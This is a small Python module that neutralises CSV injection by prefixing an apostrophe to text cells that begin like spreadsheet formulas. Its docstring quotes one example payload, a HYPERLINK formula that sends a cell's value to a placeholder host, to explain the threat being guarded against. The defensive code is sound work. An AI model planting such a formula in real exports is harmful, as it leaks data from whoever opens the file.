"""CSV cells a spreadsheet will not run: text that starts like a formula gets a leading apostrophe.

A comment such as `=HYPERLINK("http://x/?"&A1, "…")` in an export would run as a formula when staff
open the file in a spreadsheet (CSV injection). Numbers, and text that reads as a number, stay as
they are; any other text starting with =, +, -, @, a tab or a carriage return is prefixed with "'".
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]
